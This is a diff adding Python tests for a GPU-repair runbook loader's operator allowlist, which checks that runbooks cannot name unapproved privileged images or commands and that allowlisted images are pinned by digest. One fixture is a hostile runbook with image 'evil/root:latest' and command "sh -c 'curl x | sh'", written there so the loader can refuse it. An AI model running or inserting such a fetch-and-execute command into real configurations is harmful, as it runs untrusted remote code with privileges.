@@ -8,6 +8,10 @@
 - refusals with a clear error: Xid 79 under `reset.xids`, a budget cost smaller than the rung's
   scope, a rung twice in `order`, an unknown `{placeholder}` in a command, a level outside 1..4;
 - defaults are safe (repair off) and the command templates fill `{uuid}` / `{level}`;
+- the operator's allowlist: a runbook naming a reset / validation image or command outside it
+  is refused naming file, line and field (the empty allowlist refuses every named image); an
+  allowlisted image and command load; the allowlist's images must be pinned by digest;
+  `sickbay runbooks validate` reads it from SICKBAY_REPAIR_ALLOWLIST;
 """
 
 from __future__ import annotations
@@ -21,6 +25,7 @@ from activities.runbooks import RunbookError, load_dir, load_text
 from contract.runbook import (
     DEFAULT_RESET_COMMAND,
     DEFAULT_VALIDATION_COMMAND,
+    RepairAllowlist,
     RepairPolicy,
     RunbookSpec,
     fill_command,
@@ -127,3 +132,58 @@ def test_command_templates() -> None:
     ]
     spec = RunbookSpec.model_validate({"validation": {"timeout": "2h"}})
     assert spec.validation.timeout == timedelta(hours=2)
+
+
+PINNED = "registry.invalid/ops/nvidia-smi@sha256:" + "c" * 64
+NAMED = (
+    "  repair:\n"
+    "    enabled: true\n"
+    "    reset:\n"
+    "      image: {image}\n"
+    "      command: {command}\n"
+    "  validation:\n"
+    "    image: {vimage}\n"
+)
+
+
+def test_a_runbook_cannot_choose_what_runs_privileged() -> None:
+    allowlist = RepairAllowlist.model_validate(
+        {"reset": {"images": [PINNED], "commands": [["nvidia-smi", "-r", "-i", "{uuid}", "-v"]]}}
+    )
+    bad = NAMED.format(image="evil/root:latest", command="[sh, -c, 'curl x | sh']", vimage=PINNED)
+    with pytest.raises(RunbookError) as caught:
+        load_text(HEAD + bad, "rb.yaml", allowlist)
+    problems = caught.value.problems
+    assert problems[0].startswith("rb.yaml:9: spec.repair.reset.image: image 'evil/root:latest'")
+    assert "not in the operator's reset allowlist" in problems[0]
+    assert problems[1].startswith("rb.yaml:10: spec.repair.reset.command: command ['sh', '-c'")
+    assert problems[2].startswith("rb.yaml:12: spec.validation.image:")
+    assert len(problems) == 3
+    # The empty allowlist (the default) refuses any image a runbook names.
+    with pytest.raises(RunbookError, match="reset.images: none"):
+        load_text(HEAD + bad, "rb.yaml")
+    ok = NAMED.format(image=PINNED, command="[nvidia-smi, -r, -i, '{uuid}', -v]", vimage="null")
+    (rb,) = load_text(HEAD + ok, "rb.yaml", allowlist)
+    assert rb.spec.repair.reset.image == PINNED and rb.spec.validation.image is None
+
+
+def test_allowlisted_images_are_pinned_by_digest() -> None:
+    with pytest.raises(ValueError, match="not pinned by digest"):
+        RepairAllowlist.model_validate({"reset": {"images": ["nvcr.io/nvidia/cuda:12.8.1"]}})
+
+
+def test_runbooks_validate_reads_the_allowlist(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import argparse
+    import json
+
+    from worker.commands import cmd_runbooks_validate
+
+    named = NAMED.format(image=PINNED, command="[]", vimage="null")
+    (tmp_path / "rb.yaml").write_text(HEAD + named)
+    args = argparse.Namespace(path=str(tmp_path))
+    assert cmd_runbooks_validate(args) == 1
+    assert "spec.repair.reset.image" in capsys.readouterr().err
+    monkeypatch.setenv("SICKBAY_REPAIR_ALLOWLIST", json.dumps({"reset": {"images": [PINNED]}}))
+    assert cmd_runbooks_validate(args) == 0
